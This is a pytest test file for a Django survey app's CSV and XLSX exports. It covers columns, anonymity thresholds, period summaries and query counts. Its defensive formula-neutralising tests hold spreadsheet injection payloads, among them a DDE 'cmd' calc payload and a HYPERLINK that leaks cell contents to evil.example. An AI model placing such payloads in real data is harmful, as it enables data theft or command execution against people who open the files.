"""Response exports: columns and values, formula neutralising, anonymous period summaries,
set-based reads."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from audiences.models import AudienceKind
from surveys import exports
from surveys.exports import export_csv_lines, export_rows, export_xlsx, neutralise
from surveys.models import Question, QuestionType
from tests.factories import make_audience, make_person, make_touchpoint
from tests.surveys.anonymous_support import (
    OCTOBER,
    OCTOBER_COMMENTS,
    add_period_responses,
    staff_pulse,
)
from tests.surveys.test_admin_support import add_response, survey_with_questions

pytestmark = pytest.mark.django_db

WHEN = datetime.datetime(2026, 10, 5, 14, 30, tzinfo=datetime.UTC)
HEADER = [
    "response_id",
    "completed",
    "language",
    "channel",
    "segment",
    "touchpoint",
    "person_external_id",
    "version",
    "nps",
    "reason",
    "improve",
]


def csv_rows(survey, **kwargs):
    text = "".join(export_csv_lines(survey=survey, **kwargs))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(survey, **kwargs):
    with export_xlsx(survey=survey, **kwargs) as output:
        workbook = load_workbook(io.BytesIO(output.read()), read_only=True)
        rows = [list(row) for row in workbook["responses"].iter_rows(values_only=True)]
    # Read-only sheets end a row at its last non-empty cell: pad to the header's width.
    return [row + [None] * (len(rows[0]) - len(row)) for row in rows]


@pytest.fixture
def named_survey():
    survey = survey_with_questions()
    checkout = make_touchpoint(survey.audience, "checkout")
    ayse = make_person("cust-1", name="Ayşe")
    first = add_response(
        survey,
        {"nps": 3, "reason": "price", "improve": "Kargo çok geç geldi, şikâyetçiyim."},
        person=ayse,
        segment="gold",
        touchpoint=checkout,
        completed_at=WHEN,
    )
    second = add_response(
        survey, {"nps": 10}, person=make_person("cust-2"), completed_at=WHEN, language="en"
    )
    return survey, first, second


def test_csv_has_context_person_and_one_column_per_question(named_survey):
    survey, first, second = named_survey

    rows = csv_rows(survey)

    assert rows == [
        HEADER,
        [
            str(first.pk),
            "2026-10-05T14:30:00+00:00",
            "tr",
            "email",
            "gold",
            "checkout",
            "cust-1",
            "1",
            "3",
            "price",
            "Kargo çok geç geldi, şikâyetçiyim.",
        ],
        [
            str(second.pk),
            "2026-10-05T14:30:00+00:00",
            "en",
            "email",
            "",
            "",
            "cust-2",
            "1",
            "10",
            "",
            "",
        ],
    ]


def test_xlsx_has_the_same_rows_with_typed_numbers(named_survey):
    survey, first, second = named_survey

    rows = xlsx_rows(survey)

    assert rows == [
        HEADER,
        [
            first.pk,
            "2026-10-05T14:30:00+00:00",
            "tr",
            "email",
            "gold",
            "checkout",
            "cust-1",
            1,
            3,
            "price",
            "Kargo çok geç geldi, şikâyetçiyim.",
        ],
        [
            second.pk,
            "2026-10-05T14:30:00+00:00",
            "en",
            "email",
            None,
            None,
            "cust-2",
            1,
            10,
            None,
            None,
        ],
    ]


def test_unfinished_responses_are_not_exported(named_survey):
    survey, first, second = named_survey
    first.completed_on = None
    first.save()

    assert [row[0] for row in csv_rows(survey)] == ["response_id", str(second.pk)]


def test_multiple_choice_answers_are_joined():
    survey = survey_with_questions()
    Question.objects.create(
        survey=survey,
        order=4,
        page=2,
        key="channels",
        type=QuestionType.MULTIPLE_CHOICE,
        choices=[{"value": "web", "label": {}}, {"value": "store", "label": {}}],
        label={"en": "Where?", "tr": "Nerede?"},
    )
    add_response(survey, {"nps": 8, "channels": ["web", "store"]}, completed_at=WHEN)

    assert csv_rows(survey)[1][-1] == "web; store"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain = text", "plain = text"),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_triggers(raw, safe):
    assert neutralise(raw) == safe


def test_formula_cells_are_neutralised_in_csv_and_xlsx():
    survey = survey_with_questions()
    add_response(
        survey,
        {"nps": 2, "improve": "=cmd|' /C calc'!A0"},
        person=make_person("@admin"),
        segment="+vip",
        completed_at=WHEN,
    )
    add_response(survey, {"nps": 1, "improve": "-10"}, segment="-", completed_at=WHEN)

    csv_data = csv_rows(survey)
    xlsx_data = xlsx_rows(survey)

    assert [row[4] for row in csv_data[1:]] == ["'+vip", "'-"]
    assert [row[6] for row in csv_data[1:]] == ["'@admin", ""]
    assert [row[10] for row in csv_data[1:]] == ["'=cmd|' /C calc'!A0", "'-10"]
    assert [row[4] for row in xlsx_data[1:]] == ["'+vip", "'-"]
    assert [row[6] for row in xlsx_data[1:]] == ["'@admin", None]
    assert [row[10] for row in xlsx_data[1:]] == ["'=cmd|' /C calc'!A0", "'-10"]


def test_xlsx_drops_control_characters_it_cannot_store():
    survey = survey_with_questions()
    add_response(survey, {"nps": 2, "improve": "bad\x07\x1b input"}, completed_at=WHEN)

    assert xlsx_rows(survey)[1][10] == "bad input"


def test_superuser_export_of_an_anonymous_survey_has_no_identifying_column_and_the_day_stored():
    employees = make_audience("employees", AudienceKind.EMPLOYEE)
    survey = survey_with_questions(audience=employees, anonymous=True)
    response = add_response(
        survey, {"nps": 9}, person=make_person("emp-1"), segment="IT", completed_at=WHEN
    )
    for _ in range(4):  # the survey reaches the anonymity threshold (5); no segment does
        add_response(survey, {"nps": 7}, segment="HR", completed_at=WHEN)

    rows = csv_rows(survey, full=True)
    sheet = xlsx_rows(survey, full=True)

    header = ["response_id", "completed", "language", "channel", "segment", "touchpoint"]
    header += ["nps", "reason", "improve"]
    # One response is below the anonymity threshold: its segment is not exported.
    assert rows[:2] == [
        header,
        [str(response.pk), "2026-10-05", "tr", "email", "", "", "9", "", ""],
    ]
    assert len(rows) == 6
    assert sheet[0] == header
    assert sheet[1] == [response.pk, "2026-10-05", "tr", "email", None, None, 9, None, None]
    assert "emp-1" not in "".join(export_csv_lines(survey=survey, full=True))


def test_superuser_export_of_an_anonymous_survey_under_the_threshold_has_no_rows():
    employees = make_audience("employees", AudienceKind.EMPLOYEE)
    survey = survey_with_questions(audience=employees, anonymous=True)
    for n in range(4):  # one short of the threshold: the invitations tell who these four are
        add_response(survey, {"nps": n}, completed_at=WHEN)

    header = ["response_id", "completed", "language", "channel", "segment", "touchpoint"]
    assert csv_rows(survey, full=True) == [header + ["nps", "reason", "improve"]]
    assert len(xlsx_rows(survey, full=True)) == 1


# --- Anonymous surveys below superuser: one summary per reporting period ---------------------

SUMMARY_HEADER = ["period_start", "period_end", "responses", "question", "measure", "option"]
SUMMARY_HEADER.append("value")
OCT = ["2026-10-01", "2026-10-31", "6"]


def typed(cell: str) -> str | float:
    """A CSV cell as XLSX keeps it: numbers as numbers."""
    try:
        return float(cell)
    except ValueError:
        return cell


@pytest.fixture
def pulse(monkeypatch):
    # Comments come shuffled; sorted backwards here so the rows can be asserted exactly.
    monkeypatch.setattr(exports, "_shuffle", lambda items: items.sort(reverse=True))
    return staff_pulse()


def test_anonymous_export_is_a_period_summary_of_released_groups_of_k(pulse):
    rows = csv_rows(pulse.survey)

    assert rows == [
        SUMMARY_HEADER,
        [*OCT, "", "responses", "", "6"],
        [*OCT, "nps", "answers", "", "6"],
        [*OCT, "nps", "nps", "", "0.0"],  # 3 promoters, 3 detractors of 6
        [*OCT, "reason", "answers", "", "5"],
        [*OCT, "reason", "count", "price", "3"],
        [*OCT, "reason", "count", "speed", "2"],
        [*OCT, "improve", "answers", "", "5"],
        *[
            [*OCT, "improve", "comment", "", neutralise(text)]
            for text in sorted(OCTOBER_COMMENTS, reverse=True)
        ],
        # November is open: its released count only; December holds 2 (< 5): not exported.
        ["2026-11-01", "2026-11-30", "5", "", "responses", "", "5"],
    ]


def test_anonymous_export_holds_no_response_id_day_segment_or_waiting_answer(pulse):
    text = "".join(export_csv_lines(survey=pulse.survey))

    assert "response_id" not in text
    for hidden in ("sales", "legal", "email", "late and alone", "waiting", "December alone"):
        assert hidden not in text
    assert "Kasım notu" not in text  # the open period's comments wait for its publication


def test_anonymous_xlsx_is_the_same_summary_on_a_summary_sheet(pulse):
    csv_data = csv_rows(pulse.survey)

    with export_xlsx(survey=pulse.survey) as output:
        workbook = load_workbook(io.BytesIO(output.read()))
    sheet = workbook["summary"]
    values = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]

    assert values == [[typed(cell) for cell in row] for row in csv_data]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_choices_and_comments_of_fewer_than_k_people_are_left_out():
    survey = survey_with_questions(
        make_audience("employees", AudienceKind.EMPLOYEE), name="Pulse", anonymous=True
    )
    add_period_responses(
        survey,
        OCTOBER,
        [{"nps": 9, "reason": "price", "improve": "only me"}] + [{"nps": 9}] * 4,
        published=True,
    )

    rows = csv_rows(survey)

    assert [row[3:] for row in rows[1:]] == [
        ["", "responses", "", "5"],
        ["nps", "answers", "", "5"],
        ["nps", "nps", "", "100.0"],
    ]


def test_period_summaries_read_six_queries_however_many_responses(pulse):
    # periods, questions, responses per day, scored sums, choice answers, comments
    with CaptureQueriesContext(connection) as captured:
        summaries = exports.period_summaries(survey=pulse.survey)
    assert len(captured) == 6
    assert [(s.starts_on.month, s.n, s.published) for s in summaries] == [
        (10, 6, True),
        (11, 5, False),
        (12, None, False),
    ]


# --- Formula neutralising, read back from both formats --------------------------------------

LIVE = '\x01=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        (LIVE, "'" + LIVE[1:]),
        ("\x00\x1f@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\n-2", "'\n-2"),
        ("\u200b+3", "'\u200b+3"),  # a zero-width space is not printable
        ("\xa0=4", "'\xa0=4"),
        ("bell\x07 inside", "bell inside"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_neutralise_skips_control_characters_and_whitespace_before_a_trigger(raw, safe):
    assert neutralise(raw) == safe


def test_a_hyperlink_behind_a_control_character_is_no_formula_in_csv_or_xlsx():
    survey = survey_with_questions()
    add_response(
        survey,
        {"nps": 2, "improve": LIVE},
        person=make_person("\x02@admin"),
        segment="\t+vip",
        completed_at=WHEN,
    )

    csv_data = csv_rows(survey)
    with export_xlsx(survey=survey) as output:
        workbook = load_workbook(io.BytesIO(output.read()))
    cells = {cell.column_letter: cell for cell in workbook["responses"][2]}

    assert (csv_data[1][4], csv_data[1][6], csv_data[1][10]) == (
        "'\t+vip",
        "'@admin",
        "'" + LIVE[1:],
    )
    assert (cells["E"].value, cells["G"].value, cells["K"].value) == (
        "'\t+vip",
        "'@admin",
        "'" + LIVE[1:],
    )
    assert "f" not in {cell.data_type for cell in cells.values()}


def count_export_queries(survey, **kwargs) -> int:
    with CaptureQueriesContext(connection) as captured:
        list(export_rows(survey=survey, **kwargs))
    return len(captured)


def test_export_query_count_does_not_grow_with_responses():
    audience = make_audience()
    small = survey_with_questions(audience, name="Small")
    large = survey_with_questions(audience, name="Large")
    for n in range(2):
        add_response(small, {"nps": n}, completed_at=WHEN)
    for n in range(25):
        add_response(large, {"nps": n % 11, "reason": "speed"}, completed_at=WHEN)

    # questions, responses (one streaming query), answers of the single chunk
    assert count_export_queries(small) == 3
    assert count_export_queries(large) == 3


def test_answers_are_read_once_per_chunk_of_responses():
    survey = survey_with_questions()
    for n in range(5):
        add_response(survey, {"nps": n}, completed_at=WHEN)

    # questions, responses, then answers for chunks of 2 + 2 + 1 responses
    assert count_export_queries(survey, chunk_size=2) == 5
    assert [row[8] for row in list(export_rows(survey=survey, chunk_size=2))[1:]] == [0, 1, 2, 3, 4]
